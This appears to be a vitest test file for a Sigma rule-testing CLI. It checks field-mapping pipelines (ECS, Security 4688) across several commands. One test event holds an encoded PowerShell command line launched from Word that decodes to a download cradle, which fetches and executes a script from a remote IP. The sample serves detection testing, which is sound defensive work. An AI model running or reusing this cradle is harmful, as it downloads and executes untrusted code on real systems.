/**
 * Processing pipelines end to end, through the CLI: the built-in pipelines load and their case
 * files pass; the same rule and cases pass on Sysmon events, on the same events as Security 4688
 * (built-in mapping) and on the same events in ECS shape with --pipeline ecs-windows, and not
 * without it; --pipeline on eval, scan (worker threads load it too), fuzz, explain and gate,
 * pipeline: in the config; a pipeline that cannot be used stops the command (exit 2); pipeline
 * paths obey the case root and the config's repository; a pipeline named twice applies once;
 * fuzz --save under --pipeline names it in a new case file and leaves one that does not alone.
 */
import { execFileSync } from 'node:child_process';
import { cpSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { runCli } from '../src/cli/main.js';
import { captureIo } from './capture-io.js';
import { BUILTIN_PIPELINES, builtinPipelineDir, builtinPipelineNames, parsePipeline } from '../src/pipeline/pipeline.js';
import { prepareDist, REPO_ROOT } from './support/dist.js';

const RULE_FILE = join(REPO_ROOT, 'rules/windows/process_creation/proc_creation_win_powershell_encoded_download_cradle.yml');
const ECS_CASES = join(REPO_ROOT, 'pipelines/cases/ecs-windows/proc_creation_win_powershell_encoded_download_cradle.yml');

function tempDir(): string {
  return mkdtempSync(join(tmpdir(), 'sigmatest-pipelines-'));
}

/** The ECS case file without its `pipeline:` line, alone in a folder. */
function ecsCasesWithoutPipeline(): string {
  const d = tempDir();
  const text = readFileSync(ECS_CASES, 'utf8').replace(/^pipeline: ecs-windows\n/m, '').replace(/\$schema=[^\n]*/, '$schema=none');
  expect(text).not.toContain('pipeline:');
  writeFileSync(join(d, 'cases.yml'), text);
  return d;
}

/** One event of the ECS cases, as a JSON line. */
const ECS_EVENT = JSON.stringify({
  event: { code: '1' },
  winlog: { channel: 'Microsoft-Windows-Sysmon/Operational' },
  process: {
    executable: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    command_line:
      'powershell.exe -nop -w hidden -enc JABjAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0AC4AVwBlAGIAQwBsAGkAZQBuAHQAOwAkAGMALgBQAHIAbwB4AHkALgBDAHIAZQBkAGUAbgB0AGkAYQBsAHMAPQBbAE4AZQB0AC4AQwByAGUAZABlAG4AdABpAGEAbABDAGEAYwBoAGUAXQA6ADoARABlAGYAYQB1AGwAdABOAGUAdAB3AG8AcgBrAEMAcgBlAGQAZQBuAHQAaQBhAGwAcwA7AEkARQBYACAAJABjAC4ARABvAHcAbgBsAG8AYQBkAFMAdAByAGkAbgBnACgAJwBoAHQAdABwADoALwAvADEAOAA1AC4ANgAyAC4AMQA4ADgALgA0ADQALwBhAC4AcABzADEAJwApAA==',
    parent: { executable: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE' },
  },
});

describe('the built-in pipelines', () => {
  it('are found by name and load without a diagnostic', () => {
    expect(builtinPipelineNames()).toEqual([...BUILTIN_PIPELINES]);
    for (const name of BUILTIN_PIPELINES) {
      const file = join(builtinPipelineDir() as string, `${name}.yml`);
      const r = parsePipeline(readFileSync(file, 'utf8'), file, name);
      expect(r.diagnostics, name).toEqual([]);
      expect(r.pipeline?.name).toBe(name);
    }
  });

  it('pass their case files (events of their shape)', async () => {
    const io = captureIo({ cwd: REPO_ROOT });
    expect(await runCli(['run', '--rules', 'rules', '--cases', 'pipelines/cases', '--reporter', 'json'], io)).toBe(0);
    const report = JSON.parse(io.stdout()) as { rules: Array<{ title: string; status: string; cases: { passed: number; failed: number } }> };
    const piped = report.rules.filter((r) => r.title.includes('(pipeline '));
    expect(piped.map((r) => [r.title.replace(/^.*\(pipeline /, ''), r.status])).toEqual([
      ['ecs-windows)', 'pass'],
      ['security-4688)', 'pass'],
    ]);
  });
});

describe('the same rule and cases on three shapes of the same events', () => {
  it('Sysmon events, the same events as Security 4688, and in ECS shape with --pipeline ecs-windows', async () => {
    const sysmon = captureIo({ cwd: REPO_ROOT });
    expect(await runCli(['run', '--rules', RULE_FILE, '--cases', 'cases/proc_creation_win_powershell_encoded_download_cradle.yml'], sysmon)).toBe(0);
    const security = captureIo({ cwd: REPO_ROOT });
    expect(await runCli(['run', '--rules', RULE_FILE, '--cases', 'cases/proc_creation_win_powershell_encoded_download_cradle.security-4688.yml'], security)).toBe(0);
    const d = ecsCasesWithoutPipeline();
    const ecs = captureIo({ cwd: d });
    expect(await runCli(['run', '--rules', RULE_FILE, '--cases', 'cases.yml', '--pipeline', 'ecs-windows'], ecs)).toBe(0);
    expect(ecs.stdout()).toContain('11/11 cases passed, coverage 100%');
    // The ECS events mean nothing to the rule as written.
    const unmapped = captureIo({ cwd: d });
    expect(await runCli(['run', '--rules', RULE_FILE, '--cases', 'cases.yml'], unmapped)).toBe(1);
  });

  it("the config's pipeline: applies to every command run in its folder", async () => {
    const d = ecsCasesWithoutPipeline();
    writeFileSync(join(d, 'sigmatest.config.yml'), 'pipeline: ecs-windows\n');
    const io = captureIo({ cwd: d });
    expect(await runCli(['run', '--rules', RULE_FILE, '--cases', 'cases.yml'], io)).toBe(0);
  });
});

describe('--pipeline on the other commands', () => {
  it('eval: the ECS event matches with the pipeline, not without', async () => {
    const d = tempDir();
    writeFileSync(join(d, 'e.jsonl'), `${ECS_EVENT}\n`);
    const on = captureIo({ cwd: d });
    expect(await runCli(['eval', RULE_FILE, '--events', 'e.jsonl', '--pipeline', 'ecs-windows'], on)).toBe(0);
    expect(on.stdout()).toContain('"rule":"ee0ed1d5-66fb-438a-9637-782351bbe87e"');
    const off = captureIo({ cwd: d });
    expect(await runCli(['eval', RULE_FILE, '--events', 'e.jsonl'], off)).toBe(0);
    expect(off.stdout()).toBe('');
  });

  it('a Sigma filter goes through the pipeline as the rule does: it excludes the ECS event by its mapped field', async () => {
    const d = tempDir();
    mkdirSync(join(d, 'rules'));
    cpSync(RULE_FILE, join(d, 'rules', 'rule.yml'));
    writeFileSync(join(d, 'e.jsonl'), `${ECS_EVENT}\n`);
    const scan = async (): Promise<string> => {
      const io = captureIo({ cwd: d });
      expect(await runCli(['scan', '--rules', 'rules', '--events', 'e.jsonl', '--pipeline', 'ecs-windows'], io)).toBe(0);
      return io.stdout();
    };
    expect(await scan()).toContain('ee0ed1d5-66fb-438a-9637-782351bbe87e');
    // The filter names the Sysmon field; the event carries process.parent.executable.
    writeFileSync(
      join(d, 'rules', 'office.yml'),
      "title: Office parents are tuned out\nlogsource: {category: process_creation, product: windows}\nfilter:\n  rules: [ee0ed1d5-66fb-438a-9637-782351bbe87e]\n  office:\n    ParentImage|endswith: '\\WINWORD.EXE'\n  condition: not office\n",
    );
    expect(await scan()).not.toContain('ee0ed1d5-66fb-438a-9637-782351bbe87e');
  });

  it('scan: one thread and worker threads (each loads the pipeline) find the same match', () => {
    const why = prepareDist();
    if (why !== undefined) {
      console.warn(`pipelines-cli: scan with workers skipped: ${why}`);
      return;
    }
    const d = tempDir();
    writeFileSync(join(d, 'e.jsonl'), `${ECS_EVENT}\n{"event": {"code": "1"}, "process": {"executable": "C:\\\\x.exe"}}\n`.repeat(3));
    for (const workers of ['1', '2']) {
      // Worker threads run the compiled code: the compiled CLI, in the events' folder.
      const out = execFileSync(process.execPath, [join(REPO_ROOT, 'bin', 'sigmatest.js'), 'scan', '--rules', RULE_FILE, '--events', 'e.jsonl', '--pipeline', 'ecs-windows', '--workers', workers, '--thread-input', '0', '--reporter', 'json'], { cwd: d, encoding: 'utf8' });
      const r = JSON.parse(out) as { matches: Array<{ index: number }> };
      expect(r.matches.map((m) => m.index), workers).toEqual([0, 2, 4]);
    }
  });

  it('fuzz: witnesses come out in the mapped shape, with values for the rule\'s fields', async () => {
    const d = tempDir();
    const io = captureIo({ cwd: d });
    expect(await runCli(['fuzz', RULE_FILE, '--pipeline', 'ecs-windows', '--runs', '20', '--seed', '3', '--emit-witnesses', 'w.jsonl'], io)).toBe(0);
    const witnesses = readFileSync(join(d, 'w.jsonl'), 'utf8').trim().split('\n').map((l) => (JSON.parse(l) as { event: Record<string, unknown> }).event);
    expect(witnesses.length).toBeGreaterThan(0);
    for (const w of witnesses) {
      expect(Object.keys(w).every((k) => k.includes('.')), JSON.stringify(w)).toBe(true);
      expect(w['winlog.channel']).toBe('Microsoft-Windows-Sysmon/Operational');
      expect(typeof w['process.command_line']).toBe('string');
    }
  });

  it('explain: the page says which pipeline and which fields it mapped, and names the mapped fields', async () => {
    const io = captureIo({ cwd: REPO_ROOT });
    expect(await runCli(['explain', RULE_FILE, '--pipeline', 'ecs-windows'], io)).toBe(0);
    expect(io.stdout()).toContain('## Processing pipeline');
    expect(io.stdout()).toContain('| CommandLine | process.command_line |');
    expect(io.stdout()).toContain('| process.parent.executable | match (startswith) | `C:\\Windows\\CCM\\` |');
  });

  it('gate: the tests check runs the cases through the pipeline', async () => {
    const d = ecsCasesWithoutPipeline();
    mkdirSync(join(d, 'rules'));
    cpSync(RULE_FILE, join(d, 'rules', 'r.yml'));
    mkdirSync(join(d, 'cases'));
    cpSync(join(d, 'cases.yml'), join(d, 'cases', 'r.yml'));
    const on = captureIo({ cwd: d });
    expect(await runCli(['gate', '--rules', 'rules', '--cases', 'cases', '--pipeline', 'ecs-windows', '--fuzz-runs', '5', '--reporter', 'json'], on)).toBe(0);
    const checks = (JSON.parse(on.stdout()) as { rules: Array<{ checks: Array<{ name: string; status: string }> }> }).rules[0]?.checks;
    expect(checks?.find((c) => c.name === 'tests')?.status).toBe('pass');
    const off = captureIo({ cwd: d });
    expect(await runCli(['gate', '--rules', 'rules', '--cases', 'cases', '--fuzz-runs', '5', '--reporter', 'json'], off)).toBe(1);
  });

  it('a pipeline that cannot be used stops the command with its located problem (exit 2)', async () => {
    const d = tempDir();
    writeFileSync(join(d, 'p.yml'), 'transformations:\n  - type: field_name_mapping\n    mapping: {Image: x}\n  - type: set_value\n    value: 1\n');
    writeFileSync(join(d, 'e.jsonl'), `${ECS_EVENT}\n`);
    for (const argv of [
      ['eval', RULE_FILE, '--events', 'e.jsonl', '--pipeline', 'p.yml'],
      ['scan', '--rules', RULE_FILE, '--events', 'e.jsonl', '--pipeline', 'p.yml'],
      ['fuzz', RULE_FILE, '--pipeline', 'p.yml'],
      ['explain', RULE_FILE, '--pipeline', 'p.yml'],
      ['run', '--rules', RULE_FILE, '--cases', ECS_CASES, '--pipeline', 'p.yml'],
      ['eval', RULE_FILE, '--events', 'e.jsonl', '--pipeline', 'no-such-pipeline'],
    ]) {
      const io = captureIo({ cwd: d });
      expect(await runCli(argv, io), argv.join(' ')).toBe(2);
      expect(io.stderr() + io.stdout(), argv.join(' ')).toMatch(/p\.yml:4:11: error PIPELINE_TRANSFORMATION_UNSUPPORTED at transformations\[1\]\.type: transformation type 'set_value'|PIPELINE_NOT_FOUND/);
    }
  });
});

describe('pipeline paths and pipelines named twice', () => {
  it("a case file's pipeline: path obeys the case root, a config's obeys its repository", async () => {
    const d = tempDir();
    writeFileSync(join(d, 'p.yml'), readFileSync(join(builtinPipelineDir() as string, 'ecs-windows.yml'), 'utf8'));
    mkdirSync(join(d, 'sub'));
    const text = readFileSync(ECS_CASES, 'utf8').replace(/^pipeline: ecs-windows$/m, 'pipeline: ../p.yml').replace(/\$schema=[^\n]*/, '$schema=none');
    writeFileSync(join(d, 'sub', 'cases.yml'), text);
    // Outside git, the case file's root is the working folder it lies in: ../p.yml leads out of it.
    const outside = captureIo({ cwd: join(d, 'sub') });
    expect(await runCli(['run', '--rules', RULE_FILE, '--cases', 'cases.yml'], outside)).not.toBe(0);
    expect(outside.stderr() + outside.stdout()).toMatch(/cases\.yml:\d+:\d+: error CASE_PATH_OUTSIDE at pipeline: pipeline /);
    // With the parent folder as the root, the same file is read and its cases pass.
    const inside = captureIo({ cwd: join(d, 'sub') });
    expect(await runCli(['run', '--rules', RULE_FILE, '--cases', 'cases.yml', '--root', d], inside)).toBe(0);
    expect(inside.stdout()).toContain('11/11 cases passed');
    // A config cannot name a pipeline file outside its repository (here its folder).
    writeFileSync(join(d, 'sub', 'sigmatest.config.yml'), 'pipeline: ../p.yml\n');
    const config = captureIo({ cwd: join(d, 'sub') });
    expect(await runCli(['eval', RULE_FILE, '--events', ECS_CASES], config)).toBe(2);
    expect(config.stderr()).toMatch(/sigmatest\.config\.yml:1:11: error CONFIG_INVALID/);
  });

  it('a pipeline file named by --pipeline and by the case file is applied once', async () => {
    // A prefix pipeline is not idempotent: applied twice, Image would become x.x.Image and the case would fail.
    const d = tempDir();
    writeFileSync(join(d, 'p.yml'), 'transformations:\n  - type: field_name_prefix\n    prefix: x.\n');
    writeFileSync(join(d, 'r.yml'), "title: A\nid: 0b7c3b1e-1111-4c1a-9d1e-00000000000a\nlogsource: {category: process_creation, product: windows}\ndetection:\n    sel:\n        Image|endswith: '\\a.exe'\n    condition: sel\n");
    writeFileSync(join(d, 'cases.yml'), "rule: 0b7c3b1e-1111-4c1a-9d1e-00000000000a\npipeline: p.yml\ncases:\n  - {name: hit, expect: match, event: {x.Image: 'C:\\a.exe'}}\n  - {name: miss, expect: no-match, event: {x.Image: 'C:\\b.exe'}}\n");
    for (const extra of [[], ['--pipeline', 'p.yml']]) {
      const io = captureIo({ cwd: d });
      expect(await runCli(['run', '--rules', 'r.yml', '--cases', 'cases.yml', ...extra], io), io.stdout()).toBe(0);
      expect(io.stdout()).toContain('A (pipeline p.yml)');
    }
  });

  it('fuzz --save under --pipeline: a new case file names the pipeline; one that does not is left alone', async () => {
    const d = tempDir();
    mkdirSync(join(d, 'rules'));
    mkdirSync(join(d, 'cases'));
    writeFileSync(
      join(d, 'rules', 'enc.yml'),
      "title: Encoded PowerShell\nid: 0b7c3b1e-1111-4c1a-9d1e-000000000009\nlogsource: {category: process_creation, product: windows}\ndetection:\n    selection:\n        CommandLine|contains: ' -enc '\n    filter:\n        ParentImage|endswith: '\\msiexec.exe'\n    condition: selection and not filter\n",
    );
    const args = ['fuzz', 'rules', '--runs', '10', '--seed', '3', '--save', '--cases', 'cases', '--pipeline', 'ecs-windows'];
    const first = captureIo({ cwd: d });
    expect(await runCli(args, first)).toBe(0);
    const written = readFileSync(join(d, 'cases', 'enc.yml'), 'utf8');
    expect(written).toMatch(/^pipeline: "ecs-windows"$/m);
    expect(written).toContain('process.parent.executable');
    // Run, the saved case reads its event through the case file's pipeline: the selection holds, and
    // the case is a known gap (saved evasions are) until the rule's exclusion is fixed: the suite stays green.
    const run = captureIo({ cwd: d });
    expect(await runCli(['run', '--rules', 'rules', '--cases', 'cases'], run)).toBe(0);
    expect(written).toContain('known_gap: "EXCLUSION_EVADABLE: ');
    expect(run.stdout()).toContain('Encoded PowerShell (pipeline ecs-windows)');
    expect(run.stdout()).toContain('selection: true because CommandLine as process.command_line contains');
    // Without the pipeline: line, the mapped events would run unmapped: nothing is saved to it.
    const bare = written.replace(/^pipeline: .*\n/m, '');
    writeFileSync(join(d, 'cases', 'enc.yml'), bare);
    const second = captureIo({ cwd: d });
    expect(await runCli(args.map((a, k) => (k === 5 ? '4' : a)), second)).toBe(0);
    expect(second.stderr()).toContain('not saved to cases/enc.yml');
    expect(readFileSync(join(d, 'cases', 'enc.yml'), 'utf8')).toBe(bare);
  });
});
